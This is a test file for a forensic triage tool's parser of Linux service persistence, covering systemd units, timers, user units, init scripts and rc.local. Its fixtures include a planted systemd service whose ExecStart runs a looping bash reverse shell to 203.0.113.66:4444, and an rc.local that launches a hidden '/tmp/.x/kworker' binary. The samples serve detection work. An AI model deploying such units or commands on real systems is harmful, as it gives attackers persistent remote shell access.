// services: the settings of a unit merged from its file and drop-ins (the files as systemd-analyze cat-config
// lists them), the planted service and timer, user units, init scripts and rc.local, and bad input.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { dir, file, symlink } from "../../../../../../src/fs/memory.js";
import { unitAssignments } from "../../../../../../plugins/os/unix/linux/services/unitfile.js";
import { prng } from "../../../../../helpers/prng.js";
import { PERSISTENCE, run, type Run } from "../../triage.js";
import { targetFromTree } from "../../../../../../plugins/index.js";

const ROOT = path.join(PERSISTENCE, "debian12");
const byName = (r: Run, name: string, scope = "system") => r.records.find((x) => x.name === name && x.scope === scope)!;

/** The files systemd-analyze cat-config shows for a unit: its "# /path" headers. */
const catConfig = (unit: string): string[] =>
  fs.readFileSync(path.join(PERSISTENCE, `debian12.cat-config.${unit}.txt`), "utf8").split("\n").filter((l) => l.startsWith("# /")).map((l) => l.slice(2));

const r = await run(ROOT, "services");

describe("services: a unit's settings", () => {
  it("atd.service: the vendor file and the local drop-in, in cat-config's order; ExecStart reset by the drop-in", () => {
    const atd = byName(r, "atd.service");
    expect([atd.filepath, ...(atd.dropins as string[])]).toEqual(catConfig("atd.service"));
    expect(atd).toMatchObject({
      state: "enabled",
      enabled: true,
      enabled_by: ["/etc/systemd/system/multi-user.target.wants/atd.service"],
      description: "Deferred execution scheduler",
      exec_start: ["/usr/sbin/atd -f -l 1.5"],
      exec_start_pre: ['-find /var/spool/cron/atjobs -type f -name "=*" -not -newercc /run/systemd -delete'],
      environment: ["ATD_QUIET=1"],
      wanted_by: ["multi-user.target"],
    });
  });

  // systemd turns the trailing backslash into a blank and appends the next line without its leading blanks: the
  // blank before the backslash stays, so "backup.sh \\" + "    --target" is "backup.sh  --target" (two blanks;
  // the command line is split on blanks later, so it runs the same).
  it("backup.service: continuation lines joined as systemd joins them, lists and single settings", () => {
    const b = byName(r, "backup.service");
    expect([b.filepath, ...(b.dropins as string[])]).toEqual(catConfig("backup.service"));
    expect(b).toMatchObject({
      state: "static",
      enabled: false,
      service_type: "oneshot",
      user: "backup",
      group: "backup",
      environment: ["TARGET=nas01:/backup", '"RSYNC_OPTS=-a --delete"'],
      environment_file: ["-/etc/default/backup"],
      exec_start_pre: ["/bin/mountpoint -q /srv"],
      exec_start: ["/usr/local/bin/backup.sh  --target ${TARGET}"],
      exec_start_post: ["/usr/bin/logger backup done"],
    });
    expect(byName(r, "backup.timer")).toMatchObject({ state: "enabled", on_calendar: ["*-*-* 02:30:00"], timer_unit: "backup.service", wanted_by: ["timers.target"] });
  });

  it("the planted service and timer: enabled, the reverse shell in ExecStart, the timer's schedule", () => {
    expect(byName(r, "dbus-broker-helper.service")).toMatchObject({
      state: "enabled",
      enabled: true,
      enabled_by: ["/etc/systemd/system/multi-user.target.wants/dbus-broker-helper.service"],
      exec_start: ["/bin/bash -c 'while :; do bash -i >& /dev/tcp/203.0.113.66/4444 0>&1; sleep 60; done'"],
      filepath: "/usr/lib/systemd/system/dbus-broker-helper.service",
    });
    const timer = byName(r, "dbus-broker-helper.timer");
    expect([timer.filepath]).toEqual(catConfig("dbus-broker-helper.timer"));
    expect(timer).toMatchObject({ state: "enabled", on_boot_sec: ["1min"], on_unit_active_sec: ["10min"], timer_unit: "dbus-broker-helper.service" });
  });

  it("masked, alias and template units; the alias systemctl enable wrote", () => {
    expect(byName(r, "debug-shell.service")).toMatchObject({ state: "masked", enabled: false, link_target: "/dev/null", filepath: "/etc/systemd/system/debug-shell.service", shadowed: ["/usr/lib/systemd/system/debug-shell.service"] });
    expect(byName(r, "web.service")).toMatchObject({ state: "alias", link_target: "/etc/systemd/system/webapp.service", exec_start: ["/usr/bin/python3 -m http.server 8080"] });
    expect(byName(r, "getty@.service")).toMatchObject({ state: "enabled", enabled_by: ["/etc/systemd/system/getty.target.wants/getty@tty1.service"] });
  });

  it("user units: global ones once, a home's own with its owner and its ~/.config link", () => {
    // /etc/systemd/user/ssh-agent.service hides the one openssh-client ships, whose vendor link still pulls it in
    expect(byName(r, "ssh-agent.service", "user")).toMatchObject({
      owner: null,
      state: "enabled",
      enabled_by: ["/etc/systemd/user/default.target.wants/ssh-agent.service", "/usr/lib/systemd/user/graphical-session-pre.target.wants/ssh-agent.service"],
      shadowed: ["/usr/lib/systemd/user/ssh-agent.service"],
    });
    const sync = r.records.find((x) => x.name === "sync.service")!;
    expect(sync).toMatchObject({ scope: "user", owner: "alice", state: "enabled", exec_start: ["/home/alice/bin/sync-notes"], filepath: "/home/alice/.config/systemd/user/sync.service" });
  });

  it("reads Debian's units without a warning", () => {
    expect(r.warnings).toEqual([]);
    expect(r.errors).toEqual([]);
  });
});

describe("services: init scripts, rc.local, bad input", () => {
  const tree = {
    "/etc/os-release": "ID=debian\n",
    "/var": dir(),
    "/etc/init.d/nginx": "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: nginx\n# Short-Description: starts the nginx web server\n### END INIT INFO\n",
    "/etc/init.d/old": "#!/bin/sh\n# description: an old daemon\n",
    "/etc/init.d/README": "not a script\n",
    "/etc/rc2.d/S01nginx": symlink("../init.d/nginx"),
    "/etc/rc3.d/K01old": symlink("../init.d/old"),
    "/etc/rc.local": file("#!/bin/sh -e\n# rc.local\nnohup /tmp/.x/kworker &\nexit 0\n", { mode: 0o755 }),
    "/etc/systemd/system/bad.service": "ExecStart=/before/section\n[Service\n[Service]\nno equals sign\n=novalue\nExecStart=/bin/good \\\n# a comment inside\n  --flag\n",
    "/etc/systemd/system/gone.service": symlink("/opt/nowhere.service"),
  };

  it("init scripts with their S links and LSB description; rc.local's commands, enabled when executable", async () => {
    const x = await run(targetFromTree(tree), "services");
    expect(x.records.filter((y) => y.type !== "systemd").map((y) => [y.type, y.name, y.state, y.enabled_by, y.description, y.exec_start])).toEqual([
      ["sysvinit", "nginx", "enabled", ["/etc/rc2.d/S01nginx"], "starts the nginx web server", []],
      ["sysvinit", "old", "disabled", [], "an old daemon", []],
      ["rc.local", "rc.local", "enabled", [], null, ["nohup /tmp/.x/kworker &", "exit 0"]],
    ]);
  });

  it("every bad line is a warning with its file, line and offset; the good ones are kept; a dangling link is told", async () => {
    const x = await run(targetFromTree(tree), "services");
    expect(byName(x, "bad.service").exec_start).toEqual(["/bin/good  --flag"]);
    expect(byName(x, "gone.service")).toMatchObject({ state: "bad", link_target: "/opt/nowhere.service" });
    const f = "/etc/systemd/system/bad.service";
    expect(x.warnings).toEqual([
      { message: "line 1: assignment outside of any (valid) section; skipped", file: f, offset: 0 },
      { message: "line 2: not a valid section header; skipped", file: f, offset: 26 },
      { message: "line 4: no '=' (neither a section header, a comment nor an assignment); skipped", file: f, offset: 45 },
      { message: "line 5: assignment without a key; skipped", file: f, offset: 60 },
      { message: "a link that leads to no unit file inside the target (/opt/nowhere.service)", file: "/etc/systemd/system/gone.service" },
    ]);
  });

  it("RHEL's /etc/rc.local → rc.d/rc.local and /etc/init.d → rc.d/init.d are read once", async () => {
    const x = await run(
      targetFromTree({
        "/etc/os-release": "ID=rhel\n",
        "/var": dir(),
        "/etc/rc.d/rc.local": file("touch /var/lock/subsys/local\n", { mode: 0o644 }),
        "/etc/rc.local": symlink("rc.d/rc.local"),
        "/etc/rc.d/init.d/network": "#!/bin/sh\n# description: Activates/Deactivates all network interfaces\n",
        "/etc/init.d": symlink("rc.d/init.d"),
        "/etc/rc.d/rc3.d/S10network": symlink("../init.d/network"),
      }),
      "services",
    );
    expect(x.records.map((y) => [y.type, y.name, y.state, y.enabled_by, y.filepath])).toEqual([
      ["sysvinit", "network", "enabled", ["/etc/rc.d/rc3.d/S10network"], "/etc/init.d/network"],
      ["rc.local", "rc.local", "disabled", [], "/etc/rc.local"],
    ]);
  });

  it("a link out of the target resolves inside it", async () => {
    const x = await run(targetFromTree({ ...tree, "/etc/systemd/system/up.service": symlink("../../../../../../etc/passwd"), "/etc/passwd": "[Service]\nExecStart=/inside\n" }), "services");
    expect(byName(x, "up.service")).toMatchObject({ link_target: "/etc/passwd", exec_start: ["/inside"], state: "alias" });
  });

  it("is not applicable without units, init scripts or rc.local", async () => {
    const x = await run(targetFromTree({ "/etc/os-release": "ID=debian\n", "/var": dir() }), "services");
    expect(x.outcome).toMatchObject({ status: "absent", reason: "no systemd unit directory, /etc/init.d or rc.local" });
  });
});

describe("services: fuzz", () => {
  it("truncated and corrupted unit files never throw; every assignment comes from a line of the input", () => {
    const source = fs.readFileSync(path.join(ROOT, "etc/systemd/system/backup.service"));
    const rand = prng(16);
    for (let i = 0; i < 300; i++) {
      const b = Buffer.from(source.subarray(0, Math.floor(rand() * (source.length + 1))));
      for (let k = Math.floor(rand() * 6); k > 0; k--) b[Math.floor(rand() * b.length)] = Math.floor(rand() * 256);
      const lines = b.toString("latin1").split("\n").map((text, n) => ({ text, lineno: n + 1, offset: 0, bytes: text.length, cut: false }));
      let problems = 0;
      for (const a of unitAssignments(lines, () => problems++)) {
        expect(a.lineno).toBeGreaterThan(0);
        expect(a.lineno).toBeLessThanOrEqual(lines.length);
        expect(a.key.length).toBeGreaterThan(0);
      }
      expect(problems).toBeLessThanOrEqual(lines.length);
    }
  });
});
